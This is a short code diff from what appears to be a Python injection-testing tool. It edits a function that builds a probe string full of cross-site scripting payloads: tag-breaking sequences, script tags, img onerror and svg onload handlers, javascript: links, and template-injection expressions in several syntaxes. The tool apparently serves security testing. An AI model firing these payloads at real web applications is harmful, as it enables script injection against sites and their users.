@@ -48,7 +48,7 @@ def text(where):
     tag = f"<i data-{WORD}={where}>"
     return (
         f"{WORD}-{where} \"'></title></textarea></style></script>{tag}"
-        f'<script>{js}</script><img src=x onerror="{js}"><svg onload="{js}">'
+        f'<script>{js}</script><img src=data:,x onerror="{js}"><svg onload="{js}">'
         f'<a href="javascript:{js}" target=_top>go</a>'
         f'&lt;img src=x onerror="{js}"&gt; [go](javascript:{js}) '
         f'{{{{ {SUM} }}}} #{{{SUM}}} ${{{SUM}}} <t t-out="{SUM}"/> %(x)s %s '
